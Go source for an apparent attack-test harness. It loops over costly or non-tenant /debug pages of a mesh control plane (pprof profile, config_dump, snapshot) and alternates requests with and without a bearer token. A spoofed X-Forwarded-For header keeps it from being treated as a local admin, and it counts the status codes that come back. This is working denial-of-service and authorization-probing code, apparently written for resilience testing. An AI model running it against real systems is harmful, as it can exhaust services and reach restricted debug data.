package attack

import (
	"cmp"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
)

const pagesAttack = "pages"

// costly are pages of /debug that plan, decode or wait, and pages that are not for tenants. %s is a proxy,
// NAME.NAMESPACE.
var costly = []string{"/debug/explain?proxyID=%s&resource=x", "/debug/config_dump?proxyID=%s",
	"/debug/syncz", "/debug/pprof/profile?seconds=30", "/debug/problems",
	"/debug/pprof/heap", "/debug/connections", "/debug/patches", "/debug/snapshot", "/debug/"}

// pages requests pages of /debug, alternately with the token and without a token, and reads the answers completely. Its
// requests have the headers of a proxy. Without them it would count as a user of the server's machine, who may see
// everything.
func pages(ctx context.Context, w *attacker) string {
	transport := &http.Transport{MaxConnsPerHost: 1, DisableCompression: true, ReadBufferSize: 4 << 10, WriteBufferSize: 4 << 10,
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) { return w.dialTo(ctx, w.Pages) }}
	defer transport.CloseIdleConnections()
	parts := strings.Split(w.Victim, "/")
	proxies := []string{cmp.Or(w.Proxy, w.invented(0)+"."+strings.Split(w.Identity, "/")[0]), parts[2] + "." + parts[0]}
	for i := w.tries; ; i++ {
		page := costly[i%len(costly)]
		if strings.Contains(page, "%s") {
			page = fmt.Sprintf(page, proxies[i/len(costly)%len(proxies)])
		}
		r, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://localhost"+page, nil)
		if err != nil {
			return err.Error()
		}
		r.Header.Set("X-Forwarded-For", "192.0.2.1")
		if i%4 != 0 {
			r.Header.Set("Authorization", "Bearer "+w.Token)
		}
		if came := w.exchange(ctx, transport, r); came != "" {
			return came
		}
	}
}

// exchange sends a request, discards its answer, and pauses. Each answer counts as a try, by its status. It returns the
// result of the connection; empty: the connection can be used again.
func (w *attacker) exchange(ctx context.Context, transport *http.Transport, r *http.Request) (came string) {
	w.count(func(c *Count) { c.Requests++ })
	answer, err := transport.RoundTrip(r)
	if err == nil {
		_, err = io.Copy(io.Discard, answer.Body)
		answer.Body.Close()
		w.count(func(c *Count) { c.Came[fmt.Sprint(answer.StatusCode)]++; c.Tried++ })
	}
	switch {
	case ctx.Err() != nil:
		return kept
	case err != nil:
		return closed
	}
	w.count(func(c *Count) { c.Answers++ })
	if !w.pause(ctx) {
		return kept
	}
	return ""
}
